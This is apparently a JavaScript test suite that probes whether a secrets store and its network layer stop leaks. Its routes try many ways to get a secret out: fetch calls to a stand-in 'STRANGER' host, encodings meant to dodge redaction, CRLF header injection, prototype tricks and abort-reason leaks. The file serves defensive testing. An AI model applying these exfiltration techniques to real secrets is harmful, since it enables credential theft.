// Wants the values, and tries what a reference and a server allow.

const tried = async (attempt) => {
  try {
    const found = await attempt();
    return found instanceof Response ? [found.status, found.url, await found.text()] : found;
  } catch (error) {
    return [error.name, error.code, error.message, error.hint, error.stack, JSON.stringify(error)];
  }
};
const attacks = async (...some) => {
  const told = [];
  for (const one of some) told.push(await tried(one));
  console.log(told);
  return told;
};
const post = (url, body, headers = {}) => fetch(url, { method: "POST", body, headers });

app.get("/asks/:id", (req) => {
  const { id } = req.params, key = Secrets.get(id);
  return attacks(
    () => [Object.keys(Secrets), Secrets.list(), Secrets.exists(id), JSON.stringify(Secrets)],
    () => [key.length, JSON.stringify({ key }), [...key].map((letter) => letter.charCodeAt(0)), structuredClone(key)],
    () => [key < "m", key.includes("secret"), key.at(-1), key.toString(), String.raw`${key}`],
    () => Secrets.get("__proto__"), () => Secrets.get({ toString: () => id }), () => Secrets.list.call(key),
    () => Secrets.hmac(id, { hash: "SHA-256" }, "x"), () => Secrets.hmac(id, { hash: "MD5" }, key),
    () => Secrets.matches(id, key),
  );
});

app.get("/encodes/:id", (req) => {
  const key = Secrets.get(req.params.id), bytes = new TextEncoder().encode(key);
  return attacks(
    ...[btoa(key), btoa("a:" + key), bytes.toHex(), bytes.toBase64({ alphabet: "base64url" }), key.toUpperCase(), [...key].reverse().join(""), [...key].join(" "), JSON.stringify([...bytes])].map((text) => () => post("SERVER/forms", text)),
  );
});

app.get("/carries/:id", (req) => {
  const key = Secrets.get(req.params.id), headers = { "x-key": key, authorization: `Bearer ${key}`, cookie: key };
  return attacks(
    () => fetch("STRANGER/taken", { headers }), () => post("STRANGER/taken", key), () => fetch(`STRANGER/taken?k=${key}`),
    () => fetch("SERVER/away", { headers }), () => post("SERVER/away", key), () => fetch(`SERVER/away?k=${key}`, { headers: { referer: key } }),
    () => fetch("SERVER/away", { redirect: "manual" }), () => fetch("SERVER/away", { headers: { "x-other": "none" } }),
    () => fetch(`STRANGER/taken?to=${encodeURIComponent(`SERVER/${key}`)}`),
    () => fetch(`http://${key}.localhost/`), () => fetch(`http://${key}@127.0.0.1/`), () => fetch(`SERVER/\u0000${key}`), () => fetch(`ftp://x/${key}`), () => fetch(`http://127.0.0.1:1/${key}`),
  );
});

app.get("/guesses/:id", (req) => {
  const { id } = req.params, made = "aiwesecret" + "a1b2c3d4".repeat(5);
  return attacks(
    ...[made, `{{secret:${id}}}`, `\${Secrets.get("${id}")}`, `$\{${id}}`, "[redacted]"].map((text) => () => post("SERVER/forms", text, { "x-key": text })),
  );
});

app.get("/misplaces/:id", (req) => {
  const key = Secrets.get(`narrow-${req.params.id}`);
  return attacks(
    () => post("SERVER/forms", key), () => post("SERVER/forms", new URLSearchParams({ key })), () => fetch(`SERVER/forms?k=${key}`), () => fetch(`SERVER/${key}`),
    () => fetch("SERVER/forms", { headers: { [key]: "x" } }), () => fetch("SERVER/forms", { method: key }),
    () => fetch("SERVER/forms", { headers: { "x-key": `a\r\nx-more: ${key}` } }), () => fetch("SERVER/forms", { headers: { "x-key": key } }),
  );
});

app.get("/reads/:id", (req) => {
  const key = Secrets.get(req.params.id);
  return attacks(
    async () => [...await (await post("SERVER/in_pieces", key)).bytes()].join(),
    async () => (await (await post("SERVER/packed", key)).bytes()).toHex(),
    async () => [...await (await post("SERVER/forms", key)).text()].reverse().join("").split("").reverse().join(""),
    async () => {
      const [one, two] = (await post("SERVER/in_pieces", key)).body.tee();
      return [await new Response(one).text(), await new Response(two).text()];
    },
    async () => {
      let told = "";
      const reader = (await post("SERVER/in_large_pieces", key)).body.getReader();
      for (let piece; !(piece = await reader.read()).done;) told += new TextDecoder("latin1").decode(piece.value) ;
      return told;
    },
    async () => (await post("SERVER/forms", key)).clone().json(),
    async () => [...(await post("SERVER/in_headers", key)).headers].flat(),
  );
});

app.get("/aborts/:id", (req) => {
  const key = Secrets.get(req.params.id), leaving = new AbortController(), reason = new Error(key);
  return attacks(
    () => { setTimeout(() => leaving.abort(reason), 5); return fetch("SERVER/silent", { method: "POST", body: key, signal: leaving.signal }).then((r) => r.text()); },
    () => fetch("SERVER/silent", { method: "POST", body: key, signal: AbortSignal.timeout(20) }).then((r) => r.text()),
    () => fetch("SERVER/silent", { method: "POST", body: key, signal: AbortSignal.abort(key) }),
  );
});
